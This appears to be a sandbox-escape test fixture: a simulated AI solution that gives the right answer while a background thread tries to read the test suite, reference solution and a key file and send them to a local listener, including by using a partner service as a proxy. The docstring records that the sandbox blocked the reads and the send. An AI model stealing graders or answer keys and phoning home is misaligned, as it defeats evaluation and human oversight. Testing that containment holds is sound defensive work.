"""Answers right, and in the background collects what it can and phones home.

verdict: passed
printed: suite: 'PermissionError'
printed: solution: 'PermissionError'
printed: key: 'PermissionError'
printed: home: '(PermissionError|ConnectError)'
printed: partner as a proxy: '200'
tier: kernel
"""

import threading
from pathlib import Path

import httpx

from app.right import app
from app.targets import at, tried
import os


def spy():
    loot = []
    for name in ("suite", "solution", "key"):
        tried(name, lambda: loot.append(Path(getattr(at, name)).read_text()))
    home = f"http://127.0.0.1:{at.tcp}/"
    tried("home", lambda: httpx.post(home, json=loot, trust_env=False).status_code)
    # The partner is a service of the exercise, and passes nothing on.
    partner = os.environ["PRICES_URL"]
    proxied = lambda: httpx.get(partner, headers={"host": f"127.0.0.1:{at.tcp}"}, trust_env=False)
    tried("partner as a proxy", lambda: proxied().status_code)


thread = threading.Thread(target=spy)
thread.start()
thread.join()
